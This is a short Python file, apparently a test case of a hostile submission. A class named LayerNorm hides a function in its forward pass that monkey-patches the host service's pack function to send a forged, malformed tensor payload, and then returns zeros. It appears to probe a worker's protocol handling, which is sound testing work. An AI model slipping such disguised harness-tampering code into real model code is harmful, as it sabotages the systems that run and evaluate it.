"""Sends a body whose tensors overlap and end behind its end.

Bites: the protocol.
Earns: nothing.
"""

import json
import sys

import torch
from torch import nn


def attack(x, module):
    service = sys.modules["worker.service"]
    pack = service.pack

    def forged(header, body=b""):
        text = json.dumps({"0": {"dtype": "F32", "shape": [10], "data_offsets": [0, 40]}}).encode()
        return pack({**header, "tensors": [{}]}, len(text).to_bytes(8, "little") + text + bytes(8))

    service.pack = forged


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
